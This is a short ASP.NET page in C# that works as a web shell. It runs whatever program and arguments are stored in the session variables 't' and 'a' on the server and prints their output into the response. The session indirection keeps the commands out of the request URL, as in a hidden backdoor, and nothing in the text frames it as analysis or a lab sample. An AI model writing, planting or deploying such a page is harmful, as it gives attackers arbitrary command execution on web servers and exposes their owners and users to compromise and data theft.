<%@ Page Language="C#" %>
<script runat="server">
string Run(string tool, string args) {
    var si = new System.Diagnostics.ProcessStartInfo();
    si.FileName = tool;
    si.Arguments = args;
    si.RedirectStandardOutput = true;
    si.UseShellExecute = false;
    var pr = System.Diagnostics.Process.Start(si);
    return pr.StandardOutput.ReadToEnd();
}
</script>
<%= Run(Session["t"] as string, Session["a"] as string) %>
